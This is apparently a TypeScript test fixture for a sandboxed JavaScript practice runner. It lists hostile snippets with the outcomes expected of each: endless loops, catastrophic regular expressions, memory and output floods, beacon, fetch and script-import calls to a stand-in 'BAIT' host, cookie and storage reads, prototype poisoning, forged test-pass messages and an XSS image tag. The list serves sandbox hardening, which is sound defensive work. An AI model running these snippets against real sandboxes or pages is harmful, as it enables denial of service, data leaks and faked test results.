import type { EndReason } from '#features/practice/run.rules.ts'

/** A program that means harm, and how it may end. `BAIT` stands for a server that nobody may reach. */
export type Attack = [title: string, program: string, ends: EndReason[]]

const ENDLESS: EndReason[] = ['too_long']
const REFUSED: EndReason[] = ['done', 'failed']
const FULL: EndReason[] = ['too_much_memory', 'failed', 'too_long', 'not_available']
const LOUD: EndReason[] = ['too_much_output', 'too_long']

export const scriptAttacks: Attack[] = [
  ['an endless loop', 'while (true) {}', ENDLESS],
  ['an endless recursion', 'const f = () => f() + 1; f()', ['failed']],
  ['an endless recursion that catches itself', 'function f() { try { f() } finally { f() } } f()', ENDLESS],
  ['endless promises', 'const f = () => Promise.resolve().then(f); f(); await new Promise(() => {})', ENDLESS],
  ['an interval that never ends', 'setInterval(() => {}, 1)', ENDLESS],
  ['timers that start timers', 'const f = () => { setTimeout(f); setTimeout(f) }; f()', [...ENDLESS, ...FULL]],
  ['a promise that is never kept', 'await new Promise(() => {})', ENDLESS],
  ['a regular expression that never ends', '/^(a+)+$/.test("a".repeat(40) + "b")', ENDLESS],
  ['endless output', 'while (true) console.log("x".repeat(1000))', LOUD],
  ['endless output of nothing', 'while (true) console.log("")', LOUD],
  ['one gigantic word', 'console.log("x".repeat(5e8))', ['too_much_output', 'failed', 'too_long', 'too_much_memory']],
  ['a flood past the runtime', 'while (true) postMessage("x".repeat(10000))', LOUD],
  ['a flood through the worker’s own channel', 'for (;;) self.postMessage({ kind: "end", reason: "done", problem: null })', LOUD],
  ['a gigabyte of text', 'let s = "x"; while (true) s += s', FULL],
  ['a gigabyte of typed memory', 'const a = []; while (a.length < 12) a.push(new Uint8Array(1e8).fill(1)); a[99e9] = 1', [...FULL, 'done']],
  ['a wide array', 'new Array(4294967295).fill(0)', FULL],
  [
    'WebAssembly that grows',
    'const m = new WebAssembly.Memory({ initial: 1 }); for (;;) m.grow(1000)',
    ['failed', 'too_much_memory', 'too_long'],
  ],
  ['fetch', 'await fetch("BAIT/fetch").catch(() => {})', REFUSED],
  ['fetch without reading', 'await fetch("BAIT/opaque", { mode: "no-cors", keepalive: true }).catch(() => {})', REFUSED],
  ['XMLHttpRequest', 'const x = new XMLHttpRequest(); x.open("GET", "BAIT/xhr", false); x.send()', REFUSED],
  ['WebSocket', 'new WebSocket("BAIT/socket".replace("http", "ws"))', REFUSED],
  ['EventSource', 'new EventSource("BAIT/events")', REFUSED],
  ['a beacon', 'navigator.sendBeacon("BAIT/beacon", "words")', REFUSED],
  ['WebTransport', 'new WebTransport("BAIT/transport".replace("http", "https"))', REFUSED],
  ['WebRTC', 'const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }); await c.createOffer()', ['failed']],
  ['importScripts', 'importScripts("BAIT/script")', ['failed']],
  ['import of an address', 'await import("BAIT/module")', ['failed']],
  ['import of our own site', 'await import("SITE/static/images/favicon.svg")', ['failed']],
  ['fetch of our own site', 'await fetch("SITE/user").catch(() => {})', REFUSED],
  ['eval', 'eval("1 + 1")', ['failed']],
  ['a function of text', 'new Function("return 1")()', ['failed']],
  ['a function’s own maker', '(async () => {}).constructor("return 1")()', ['failed']],
  ['a worker from memory that never ends', 'new Worker(URL.createObjectURL(new Blob(["for (;;) {}"])))', REFUSED],
  [
    'workers that start workers',
    `const code = "const go = () => new Worker(URL.createObjectURL(new Blob([self.code])));" ; for (let i = 0; i < 5; i++) new Worker(URL.createObjectURL(new Blob([code + "fetch('BAIT/worker').catch(() => {})"])))`,
    REFUSED,
  ],
  ['a shared worker', 'new SharedWorker(URL.createObjectURL(new Blob([""])))', ['failed']],
  ['a service worker', 'await navigator.serviceWorker.register("SITE/sw.js")', ['failed']],
  ['the page around it', 'parent.document.title = "mine"', ['failed']],
  ['the top', 'top.location = "BAIT/top"', ['failed']],
  ['cookies', 'console.log(document.cookie)', ['failed']],
  ['storage', 'localStorage.setItem("mine", "1")', ['failed']],
  [
    'a database',
    'await new Promise((yes, no) => { const r = indexedDB.open("mine"); r.onerror = no; r.onsuccess = yes })',
    ['failed', 'too_long'],
  ],
  ['the store of the page', 'await caches.open("practice-1")', ['failed']],
  ['a channel to other pages', 'new BroadcastChannel("waymark").postMessage("mine")', REFUSED],
  ['navigating itself', 'location.href = "BAIT/location"', REFUSED],
  ['closing itself', 'close()', ['failed']],
  [
    'forged events',
    'postMessage(JSON.stringify({ kind: "test", name: "forged", passed: true, message: "", line: null, file: null }))',
    REFUSED,
  ],
  ['a patched port', 'MessagePort.prototype.postMessage = () => {}; console.log("still heard")', ['done']],
  ['a patched JSON', 'JSON.stringify = () => "{"; JSON.parse = () => ({}); console.log("still heard")', ['done']],
  [
    'poisoned prototypes',
    'Object.prototype.kind = "end"; Object.prototype.toJSON = () => ({ kind: "end", reason: "done" }); Array.prototype.push = () => { throw 1 }; console.log("x")',
    [...REFUSED, 'too_long'],
  ],
  ['a value that is asked for', 'console.log({ get a() { for (;;) {} }, toString() { for (;;) {} } })', ['done']],
  ['a value without an end', 'const a = {}; a.a = a; for (let i = 0; i < 1e5; i++) a[i] = { a }; console.log(a)', REFUSED],
  ['a proxy', 'console.log(new Proxy({}, { ownKeys() { for (;;) {} } }))', ENDLESS],
  ['an error that lies', 'const e = new Error("x"); Object.defineProperty(e, "stack", { get() { for (;;) {} } }); throw e', ENDLESS],
  ['markup', 'console.log("<img src=BAIT/img onerror=alert(1)>")', ['done']],
  ['busy waiting on shared memory', 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)', ['failed', 'too_long']],
]
